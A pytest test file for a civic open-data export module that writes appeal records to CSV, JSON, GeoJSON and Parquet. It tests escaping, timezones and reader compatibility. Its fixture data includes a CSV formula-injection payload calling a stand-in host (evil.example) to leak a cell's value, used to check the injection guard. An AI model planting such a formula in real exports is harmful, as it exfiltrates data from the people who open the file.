"""opendata.exports: the streaming writers, checked against golden files and real readers."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import GeneratorType
from zoneinfo import ZoneInfo

import orjson
import pyarrow as pa
import pytest

from opendata import cells, columns, exports
from opendata.exports import FORMULA_STARTS
from opendata.schema import ANSWERS, APPEALS, PERFORMANCE, WITHDRAWN

GOLDEN = Path(__file__).parent / "golden"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") "quoted", comma\nnew line'
ROWS = [
    # As SQLite returns them: timestamps are UTC strings, booleans 0/1.
    (
        "BSK-2026-000001", "bishkek", "leninsky", "pothole", "bsk-roads", "closed", "rated",
        42.874613, 74.612201, 100, "2026-03-01 08:05:09.000000", "2026-03-01 10:00:00.000000",
        None, "2026-03-05 04:30:00.123456", "2026-03-06 18:00:00.000000",
        "2026-03-19 17:59:59.000000", 0, None, 1, 4, 0,
        "Яма на дороге возле остановки «Ала-Тоо», машины объезжают по встречке.",
        "Работы выполнены, яма заделана.", 5, "yes", "2026-03-06 18:00:00.000000", 2, "web", 3, "problem", None, None, None,
        "/videos/0123456789abcdef0123456789abcdef.mp4",
    ),
    (
        "BSK-2026-000002", "bishkek", None, "noise", "bsk-housing", "published", None,
        None, None, None, "2026-03-02 20:30:00.000000", "2026-03-02 21:00:00.000000",
        None, None, None, "2026-03-20 17:59:59.000000", 1, "Требуется закупка; «материалы»",
        None, None, 0, HOSTILE, None, None, None, "2026-03-02 21:00:00.000000", 0, "api", 0, "proposal", "declined",
        "Участок — частная территория; «решение» =SUM(A1)", None, None,
    ),
    (
        "OSH-2026-000003", "osh", "sulaiman-too", "water_leak", "osh-vodokanal", "answered",
        None, 40.523696, 72.78203, 500, "2026-03-03 00:00:00.000000",
        "2026-03-03 01:00:00.000000", "2026-03-03 02:00:00.000000",
        "2026-03-04 03:00:00.000000", None, "2026-03-21 17:59:59.000000", 0, None, 1, 1, 2,
        "-2 градуса в квартире, +10 на улице; @акимиат", "@ответ", 2, "partly",
        "2026-03-04 03:00:00.000000", 1, "open311:oshcity", 12, "question", None, None, "BSK-2026-000001",
        None,
    ),
]  # fmt: skip


def as_objects(row: tuple) -> tuple:
    """The same row as PostgreSQL returns it: naive UTC datetimes, real booleans."""
    out = []
    for spec, value in zip(APPEALS.fields, row, strict=True):
        if spec.type == "datetime" and value is not None:
            value = datetime.fromisoformat(value)
        elif spec.type == "boolean" and value is not None:
            value = bool(value)
        out.append(value)
    return tuple(out)


def render(fmt: str, rows, dataset=APPEALS) -> bytes:
    return b"".join(exports.stream(fmt, dataset, rows))


def check_golden(name: str, data: bytes) -> None:
    path = GOLDEN / name
    if UPDATE or not path.exists():
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    assert data == path.read_bytes(), f"{name} differs from its golden file"


TEXT_FORMATS = [fmt for fmt, spec in exports.FORMATS.items() if not spec.binary]


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_golden_files(fmt):
    check_golden(f"appeals.{exports.FORMATS[fmt].suffix}", render(fmt, ROWS))


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_sqlite_strings_and_datetime_objects_give_the_same_bytes(fmt):
    assert render(fmt, [as_objects(r) for r in ROWS]) == render(fmt, ROWS)


def test_aware_datetimes_are_converted_to_bishkek_time():
    row = list(as_objects(ROWS[0]))
    row[10] = datetime(2026, 3, 1, 8, 5, 9, tzinfo=UTC)
    assert render("csv", [tuple(row)]) == render("csv", ROWS[:1])


def test_csv_is_rfc4180_with_header_and_iso_datetimes():
    data = render("csv", ROWS)
    assert not data.startswith(exports.BOM)
    text = data.decode("utf-8")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(APPEALS.names)
    assert len(rows) == 1 + len(ROWS)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["submitted_at"] == "2026-03-01T14:05:09+06:00"
    assert first["first_answer_at"] == "2026-03-05T10:30:00+06:00"  # seconds, no fraction
    assert first["closed_at"] == "2026-03-07T00:00:00+06:00"  # local date rolls over
    assert first["acknowledged_at"] == ""  # missing: empty cell
    assert first["deadline_extended"] == "false" and first["on_time"] == "true"
    assert first["lat"] == "42.874613" and first["lon"] == "74.612201"


def test_excel_variant_opens_in_columns_with_russian_regional_settings():
    """Excel set to Russian/Kyrgyz regional settings splits on ";" and reads "42,874613"
    as a number: the variant has a BOM, semicolons and decimal commas, and the same cells."""
    data = render("excel.csv", ROWS)
    assert data.startswith(exports.BOM)
    excel = list(csv.reader(io.StringIO(data[len(exports.BOM) :].decode(), newline=""),
                            delimiter=";"))  # fmt: skip
    plain = list(csv.reader(io.StringIO(render("csv", ROWS).decode(), newline="")))
    assert excel[0] == plain[0] == list(APPEALS.names)
    numbers = {spec.name for spec in APPEALS.fields if spec.type == "number"}
    for excel_row, plain_row in zip(excel[1:], plain[1:], strict=True):
        for name, excel_cell, plain_cell in zip(excel[0], excel_row, plain_row, strict=True):
            expected = plain_cell.replace(".", ",") if name in numbers else plain_cell
            assert excel_cell == expected, name
    first = dict(zip(excel[0], excel[1], strict=True))
    assert first["lat"] == "42,874613" and first["lon"] == "74,612201"


def test_excel_variant_quotes_a_semicolon_inside_a_cell():
    text = render("excel.csv", ROWS).decode("utf-8-sig")
    assert '"Требуется закупка; «материалы»"' in text


def test_csv_injection_guard_and_hostile_text_round_trip():
    text = render("csv", ROWS).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[1]["text"] == "'" + HOSTILE  # the formula is shown, not run
    assert rows[2]["text"].startswith("'-2 градуса")
    assert rows[2]["latest_answer_text"] == "'@ответ"
    assert rows[1]["extension_reason"] == "Требуется закупка; «материалы»"  # untouched
    # JSON keeps every text exactly as published.
    objects = json.loads(render("json", ROWS))
    assert objects[1]["text"] == HOSTILE
    assert objects[2]["latest_answer_text"] == "@ответ"


def test_csv_cells_are_quoted_exactly_as_csv_writer_quotes_them():
    """Random hostile text in every text field: csv.reader reads back what was published
    (free text with its guard apostrophe), and csv.writer writes the same bytes again."""
    rng = random.Random(11)
    alphabet = ",\"\r\n\t =+-@'; «»Яма ё" + "abc"
    strings = [i for i, spec in enumerate(APPEALS.fields) if spec.type == "string"]
    rows = []
    for n in range(300):
        row = list(ROWS[n % len(ROWS)])
        for i in strings:
            row[i] = "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 12)))
        rows.append(tuple(row))
    data = render("csv", rows).decode()
    parsed = list(csv.reader(io.StringIO(data, newline="")))[1:]
    for row, parsed_cells in zip(rows, parsed, strict=True):
        for i in strings:
            guard = APPEALS.fields[i].free_text and row[i].startswith(exports.FORMULA_STARTS)
            assert parsed_cells[i] == ("'" if guard else "") + row[i]
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n").writerows([APPEALS.names, *parsed])
    assert again.getvalue() == data


def test_geojson_is_rfc7946():
    collection = json.loads(render("geojson", ROWS))
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection
    first, second, third = collection["features"]
    assert first["id"] == "BSK-2026-000001"
    assert first["geometry"] == {"type": "Point", "coordinates": [74.612201, 42.874613]}
    assert third["geometry"]["coordinates"] == [72.78203, 40.523696]  # [lon, lat]
    assert second["geometry"] is None  # sensitive category: no point
    assert second["properties"]["district"] is None  # null, never ""
    assert "lat" not in first["properties"] and "id" not in first["properties"]
    assert first["properties"]["submitted_at"] == "2026-03-01T14:05:09+06:00"


def test_geojsonseq_is_rfc8142():
    data = render("geojsonseq", ROWS)
    records = data.split(b"\x1e")
    assert records[0] == b""
    assert all(r.endswith(b"\n") for r in records[1:])
    features = [json.loads(r) for r in records[1:]]
    assert [f["id"] for f in features] == [r[0] for r in ROWS]


def test_empty_files_are_valid():
    assert json.loads(render("json", [])) == []
    assert json.loads(render("geojson", []))["features"] == []
    assert render("geojsonseq", []) == b""
    assert render("csv", []).decode() == ",".join(APPEALS.names) + "\r\n"


def test_geo_formats_need_a_geometry():
    with pytest.raises(ValueError):
        render("geojson", [], dataset=ANSWERS)


def test_dates_and_yearmonths_in_the_performance_dataset():
    from datetime import date

    row = [None] * len(PERFORMANCE.fields)
    row[:6] = ["bishkek", "bsk-roads", "2026-02", date(2025, 3, 1), date(2026, 2, 28), True]
    text = render("csv", [tuple(row)], PERFORMANCE).decode()
    assert "bishkek,bsk-roads,2026-02,2025-03-01,2026-02-28,true," in text
    assert json.loads(render("json", [tuple(row)], PERFORMANCE))[0]["window_start"] == "2025-03-01"


def local_iso(moment: datetime) -> str:
    """What zoneinfo says: the instant (naive = UTC) in Bishkek time, whole seconds."""
    tz = ZoneInfo("Asia/Bishkek")
    return moment.replace(tzinfo=UTC).astimezone(tz).isoformat(timespec="seconds")


def test_local_time_matches_zoneinfo_including_old_offsets():
    """The vectorised conversion agrees with zoneinfo, also across Bishkek's offset changes
    (+05:00, +06:00 and summer time before 2005) and within one batch mixing them."""
    rng = random.Random(7)
    start = datetime(1991, 1, 1)
    moments = [
        start + timedelta(seconds=rng.randrange(0, 40 * 365 * 86400), microseconds=rng.randrange(2) * 7)
        for _ in range(5000)
    ]  # fmt: skip
    for year in range(1992, 2031):  # local midnight of every month end (18:00 or 19:00 UTC)
        for month in range(1, 13):
            first = datetime(year, month, 1, 18)
            moments += [first - timedelta(days=1, seconds=1), first - timedelta(days=1)]
    texts = [m.isoformat(" ", timespec="microseconds") for m in moments]
    times = columns.utc_times(pa.array(texts + [None]))
    assert cells.local_text(times).to_pylist() == [local_iso(m) for m in moments] + [None]
    rows = [("BSK-2004-000001", "bishkek", "2004-01-15 12:00:00.000000", "withdrawn")]
    old = render("csv", rows, WITHDRAWN).decode().splitlines()[1].split(",")[2]
    assert old == "2004-01-15T17:00:00+05:00"  # Bishkek was UTC+5 in winter until 2005


def test_local_time_is_exact_in_an_hour_whose_offset_changes_at_half_past():
    """Summer time ended at 20:30 UTC on 25 Oct 1997: the hour starts at +06:00, ends at +05:00."""
    stamps = ["1997-10-25 20:10:00.000000", "1997-10-25 20:45:00.000000"]
    rows = [(f"BSK-1997-00000{i}", "bishkek", stamp, "withdrawn") for i, stamp in enumerate(stamps)]
    lines = render("csv", rows, WITHDRAWN).decode().splitlines()[1:]
    assert [line.split(",")[2] for line in lines] == [
        "1997-10-26T02:10:00+06:00",
        "1997-10-26T01:45:00+05:00",
    ]


@pytest.mark.parametrize("missing", [False, True], ids=["every-value", "one-missing"])
def test_json_writes_each_instant_with_its_own_offset_in_a_batch_mixing_them(missing):
    """A column of instants either side of an offset change (the offset then is a column,
    not one literal), with and without a missing value: JSON gives each its own offset."""
    stamps = ["1997-10-25 20:10:00.000000", "1997-10-25 20:45:00.000000"] + [None] * missing
    rows = [(f"BSK-1997-00000{i}", "bishkek", stamp, "withdrawn") for i, stamp in enumerate(stamps)]
    objects = json.loads(render("json", rows, WITHDRAWN))
    local = ["1997-10-26T02:10:00+06:00", "1997-10-26T01:45:00+05:00"] + [None] * missing
    assert [next(v for k, v in o.items() if k.endswith("_at")) for o in objects] == local


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_arrow_batches_and_python_rows_give_the_same_bytes(fmt):
    """A driver's Arrow batch (its own types: naive timestamps, 0/1 integers) is read by
    field name, whatever its column order."""
    batch = columns.from_rows(APPEALS, ROWS)
    arrays = {name: batch.column(name) for name in reversed(APPEALS.names)}
    for spec in APPEALS.fields:
        if spec.type == "datetime":
            arrays[spec.name] = arrays[spec.name].cast(pa.timestamp("us"))
        elif spec.type == "boolean":
            arrays[spec.name] = arrays[spec.name].cast(pa.int64())
    driver = pa.RecordBatch.from_pydict(arrays)
    assert b"".join(exports.stream(fmt, APPEALS, batched=[driver])) == render(fmt, ROWS)


def random_value(spec, rng: random.Random):
    """A value of ``spec``'s type as SQLite returns it, or None (a third of the time)."""
    if rng.random() < 0.3:
        return None
    if spec.type == "datetime":  # 1995-2030: across Bishkek's offset changes
        moment = datetime(1995, 1, 1) + timedelta(seconds=rng.randrange(35 * 365 * 86400))
        return moment.isoformat(" ", timespec="microseconds")
    if spec.type == "number":
        return rng.choice([round(rng.uniform(-90, 90), 6), float(rng.randrange(-5, 5))])
    if spec.type in ("integer", "boolean"):
        return rng.randrange(2) if spec.type == "boolean" else rng.randrange(-3, 10**6)
    return "".join(rng.choice('ab"\\,;\n=@-Я«»\x01 ') for _ in range(rng.randrange(6)))


def expected_text(spec, value) -> str | None:
    """A value as every text format writes it (JSON: before quoting; CSV: before the guard)."""
    if value is None:
        return None
    if spec.type == "datetime":
        return local_iso(datetime.fromisoformat(value))
    if spec.type == "boolean":
        return "true" if value else "false"
    return repr(value) if spec.type == "number" else str(value)


def test_fields_rendered_together_keep_their_own_values():
    """Fields of one kind (the datetimes, the texts that may be missing, the counts) are
    rendered in one pass and sliced back: each value stays in its own field and row,
    whichever fields and rows miss values."""
    rng = random.Random(11)
    rows = [
        tuple([f"BSK-2026-{i:06d}"] + [random_value(spec, rng) for spec in APPEALS.fields[1:]])
        for i in range(400)
    ]
    expected = [[expected_text(spec, value) for spec, value in zip(APPEALS.fields, row, strict=True)]
                for row in rows]  # fmt: skip
    objects = json.loads(render("json", rows))
    as_text = {"boolean": lambda v: "true" if v else "false", "number": repr}
    got = [[None if value is None else as_text.get(spec.type, str)(value)
            for spec, value in zip(APPEALS.fields, obj.values(), strict=True)]
           for obj in objects]  # fmt: skip
    assert got == expected
    lines = list(csv.reader(io.StringIO(render("csv", rows).decode(), newline="")))[1:]
    guard = [spec.free_text for spec in APPEALS.fields]
    written = [["" if text is None else "'" + text if free and text.startswith(FORMULA_STARTS)
                else text for text, free in zip(line, guard, strict=True)]
               for line in expected]  # fmt: skip
    assert lines == written


def test_json_strings_are_escaped_as_orjson_escapes_them():
    rng = random.Random(3)
    alphabet = [chr(c) for c in range(0x20)] + list('"\\/ abcЯё«»\u2028\x7f')
    texts = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 10))) for _ in range(500)]
    rendered = cells.json_string(pa.array(texts)).to_pylist()
    assert rendered == [orjson.dumps(text).decode() for text in texts]


def test_escaping_is_exact_in_every_slice_of_short_and_long_values():
    """Batches are slices of larger arrays: a value that needs quoting or escaping just
    outside a slice must not change it, and one inside must be caught, whether the slice's
    values are short codes (scanned as bytes first) or long text."""
    values = ["bsk", 'a"b', None, "osh", "x\ny", "", "ok,ok", "т" * 40 + '"', "plain " * 10]
    array = pa.array(values)
    for start in range(len(values)):
        for length in range(len(values) - start + 1):
            window = array.slice(start, length)
            texts = values[start : start + length]
            expected_json = [None if t is None else orjson.dumps(t).decode() for t in texts]
            assert cells.json_string(window).to_pylist() == expected_json, (start, length)
            quoted = cells.csv_quoted(window).to_pylist()
            for text, cell in zip(texts, quoted, strict=True):
                written = io.StringIO(newline="")
                csv.writer(written, lineterminator="\r\n").writerow(["x", text])  # not alone:
                expected = written.getvalue()[2:-2]  # a lone "" would be quoted as a row
                assert cell == (None if text is None else expected), (start, length)


def synthetic_rows(n: int):
    base = list(ROWS[0])
    for i in range(n):
        base[0] = f"BSK-2026-{i:06d}"
        yield tuple(base)


def test_streaming_yields_bounded_chunks():
    stream = exports.stream("csv", APPEALS, synthetic_rows(20_000))
    assert isinstance(stream, GeneratorType)
    sizes = [len(chunk) for chunk in stream]
    assert len(sizes) > 10
    assert max(sizes) < exports.CHUNK_BYTES + columns.ROWS_PER_BATCH * 600


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_memory_does_not_grow_with_the_number_of_rows(fmt):
    def peak(n: int) -> int:
        tracemalloc.start()
        for _chunk in exports.stream(fmt, APPEALS, synthetic_rows(n)):
            pass
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    small, large = peak(2_500), peak(10_000)
    assert large < small * 1.5 + 256 * 1024


def test_pandas_round_trips_cyrillic_text(tmp_path):
    pandas = pytest.importorskip("pandas")
    path = tmp_path / "appeals.csv"
    path.write_bytes(render("csv", ROWS))
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(APPEALS.names)
    assert frame.loc[0, "text"] == ROWS[0][21]
    assert frame.loc[1, "extension_reason"] == "Требуется закупка; «материалы»"
    excel = tmp_path / "appeals.excel.csv"
    excel.write_bytes(render("excel.csv", ROWS))
    frame = pandas.read_csv(excel, sep=";", decimal=",", encoding="utf-8-sig")
    assert frame.columns[0] == "id" and frame.loc[0, "text"] == ROWS[0][21]
    assert frame.loc[0, "lat"] == 42.874613  # a decimal comma read back as a number


@pytest.mark.parametrize("fmt", ["geojson", "geojsonseq", "csv"])
def test_gdal_reads_the_files(tmp_path, fmt):
    pyogrio = pytest.importorskip("pyogrio")
    path = tmp_path / f"appeals.{fmt}"
    path.write_bytes(render(fmt, ROWS))
    options = {}
    if fmt == "csv":
        options = {"X_POSSIBLE_NAMES": "lon", "Y_POSSIBLE_NAMES": "lat", "AUTODETECT_TYPE": "YES"}
    info = pyogrio.read_info(path, **options)
    assert info["features"] == len(ROWS)
    assert info["geometry_type"] == "Point"
    types = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert types["reopen_count"] == "int32"
    assert types["submitted_at"].startswith("datetime64")
    assert types["deadline_extended"] == "bool"


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_database_formatted_local_times_give_the_same_bytes(fmt):
    """Local ISO 8601 text with an offset (as a database may format it) means the same instant."""

    def formatted(row):
        return tuple(
            local_iso(value) if spec.type == "datetime" and value is not None else value
            for spec, value in zip(APPEALS.fields, as_objects(row), strict=True)
        )

    assert render(fmt, [formatted(r) for r in ROWS]) == render(fmt, ROWS)


def read_parquet(data: bytes):
    import pyarrow.parquet as pq

    return pq.read_table(io.BytesIO(data))


def test_parquet_has_the_csv_rows_with_their_types():
    """pyarrow reads the Parquet file back with typed columns holding the CSV's values."""
    table = read_parquet(render("parquet", ROWS))
    assert table.column_names == list(APPEALS.names)
    types = dict(zip(table.column_names, table.schema.types, strict=True))
    assert types["submitted_at"] == pa.timestamp("ms", tz="Asia/Bishkek")
    assert types["deadline_extended"] == pa.bool_() and types["on_time"] == pa.bool_()
    assert types["reopen_count"] == pa.int64() and types["rating_score"] == pa.int64()
    assert types["lat"] == pa.float64() and types["lon"] == pa.float64()
    assert types["text"] == pa.string()
    # The same rows as the CSV: every cell, rendered the CSV way, is the CSV's cell.
    csv_lines = list(csv.reader(io.StringIO(render("csv", ROWS).decode(), newline="")))[1:]
    again = b"".join(exports.stream("csv", APPEALS, batched=[_canonical(table)])).decode()
    assert list(csv.reader(io.StringIO(again, newline="")))[1:] == csv_lines
    first = table.slice(0, 1).to_pylist()[0]
    assert first["submitted_at"] == datetime(2026, 3, 1, 8, 5, 9, tzinfo=UTC)
    assert first["first_answer_at"].isoformat() == "2026-03-05T10:30:00+06:00"  # no fraction
    assert first["text"] == ROWS[0][21]  # no formula guard: Parquet holds values, not cells
    assert table.slice(1, 1).to_pylist()[0]["text"] == HOSTILE


def _canonical(table):
    return table.combine_chunks().to_batches()[0]


def test_pandas_reads_parquet_with_the_right_dtypes():
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_parquet(io.BytesIO(render("parquet", ROWS)))
    assert len(frame) == len(ROWS)
    assert str(frame["submitted_at"].dtype) == "datetime64[ms, Asia/Bishkek]"
    assert frame.loc[0, "submitted_at"] == pandas.Timestamp("2026-03-01T14:05:09+06:00")
    assert frame["deadline_extended"].dtype == bool
    assert frame["reopen_count"].dtype == "int64"
    assert frame["lat"].dtype == "float64" and pandas.isna(frame.loc[1, "lat"])
    assert frame.loc[2, "channel"] == "open311:oshcity"


def test_duckdb_reads_parquet_with_the_right_types(tmp_path):
    """DuckDB, as an analyst runs it: SQL over the file, typed columns, the same values."""
    import duckdb

    path = tmp_path / "appeals.parquet"
    path.write_bytes(render("parquet", ROWS))
    con = duckdb.connect()
    types = dict(
        con.execute(f"SELECT column_name, column_type FROM (DESCRIBE '{path}')").fetchall()
    )
    assert types["submitted_at"] == "TIMESTAMP WITH TIME ZONE"
    assert types["deadline_extended"] == "BOOLEAN" and types["reopen_count"] == "BIGINT"
    assert types["lat"] == "DOUBLE" and types["text"] == "VARCHAR"
    con.execute("SET TimeZone = 'UTC'")
    first, count = con.execute(
        f"SELECT min(submitted_at), count(*) FILTER (WHERE lat IS NULL) FROM '{path}'"
    ).fetchone()
    assert first == datetime(2026, 3, 1, 8, 5, 9, tzinfo=UTC) and count == 1


def test_polars_reads_parquet_with_the_right_types():
    import polars

    frame = polars.read_parquet(io.BytesIO(render("parquet", ROWS)))
    assert frame.schema["submitted_at"] == polars.Datetime("ms", "Asia/Bishkek")
    assert frame.schema["deadline_extended"] == polars.Boolean
    assert frame.schema["reopen_count"] == polars.Int64 and frame.schema["lat"] == polars.Float64
    assert frame["channel"].to_list()[2] == "open311:oshcity"
    assert frame["text"].to_list()[1] == HOSTILE


def test_parquet_of_no_rows_is_a_valid_empty_file():
    table = read_parquet(render("parquet", []))
    assert table.num_rows == 0 and table.column_names == list(APPEALS.names)


def test_parquet_is_written_in_row_groups_as_it_streams(monkeypatch):
    import pyarrow.parquet as pq

    from opendata import parquet

    monkeypatch.setattr(parquet, "ROW_GROUP_ROWS", 2_000)
    chunks = list(exports.stream("parquet", APPEALS, synthetic_rows(10_000), chunk_bytes=1))
    assert len(chunks) > 2  # bytes leave before the last row is read
    metadata = pq.ParquetFile(io.BytesIO(b"".join(chunks))).metadata
    assert metadata.num_rows == 10_000 and metadata.num_row_groups == 5


def test_performance_dataset_in_parquet():
    from datetime import date

    row = [None] * len(PERFORMANCE.fields)
    row[:8] = ["bishkek", "bsk-roads", "2026-02", date(2025, 3, 1), date(2026, 2, 28), False, 12, 3]
    table = read_parquet(render("parquet", [tuple(row)], PERFORMANCE))
    types = dict(zip(table.column_names, table.schema.types, strict=True))
    assert types["window_start"] == pa.date32() and types["month"] == pa.string()
    assert types["suppressed"] == pa.bool_() and types["received"] == pa.int64()
    assert table.to_pylist()[0]["window_end"] == date(2026, 2, 28)


def test_rows_whose_types_change_between_batches_keep_their_values():
    """After the first list of rows the types are reused; a later list that does not fit
    (a fraction in a number column of whole numbers, a text where all were empty, a
    datetime object after SQLite text) is read again by inference, never truncated."""
    spec_index = {name: i for i, name in enumerate(APPEALS.names)}
    first = [list(ROWS[0]), list(ROWS[0])]
    for row in first:
        row[spec_index["lat"]], row[spec_index["extension_reason"]] = 42.0, "a"
        row[spec_index["acknowledged_at"]] = "2026-03-02 00:00:00"
        row[spec_index["outcome"]], row[spec_index["outcome_reason"]] = "planned", "b"
        row[spec_index["duplicate_of"]] = "BSK-2026-000009"
    later = list(as_objects(ROWS[2]))
    later[spec_index["lat"]] = 40.5
    source = [[tuple(r) for r in first], [tuple(ROWS[1])], [tuple(later)]]
    reader = columns.RowBatches(APPEALS)
    got = [reader(source[0]).to_pylist()]
    assert reader.struct is not None  # every column had a value: types learned
    got += [reader(rows).to_pylist() for rows in source[1:]]
    assert got == [columns.from_rows(APPEALS, rows).to_pylist() for rows in source]
    assert got[2][0]["lat"] == 40.5


def test_parquet_row_groups_do_not_depend_on_the_batches(monkeypatch):
    """A snapshot read by a cursor (batches of 5000) or by PostgreSQL's COPY (blocks of
    bytes) is the same Parquet file: full row groups, whatever the batches' sizes."""
    import io

    import pyarrow.parquet as pq

    from opendata import columns, parquet, schema
    from opendata.exports import stream

    monkeypatch.setattr(parquet, "ROW_GROUP_ROWS", 1000)
    dataset = schema.SERVICES
    rows = [(f"s{i}", "bishkek", "Сервис", "Кызмат", "Service", i % 2 == 0) for i in range(3500)]

    def written(sizes: list[int]) -> bytes:
        starts = [sum(sizes[:index]) for index in range(len(sizes))]
        batches = [columns.from_rows(dataset, rows[start : start + size])
                   for start, size in zip(starts, sizes, strict=True)]  # fmt: skip
        return b"".join(stream("parquet", dataset, batched=batches))

    files = [written(sizes) for sizes in ([600] * 5 + [500], [3500], [1, 999, 2000, 500])]
    assert files[0] == files[1] == files[2]
    metadata = pq.ParquetFile(io.BytesIO(files[0])).metadata
    groups = [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)]
    assert groups == [1000, 1000, 1000, 500]
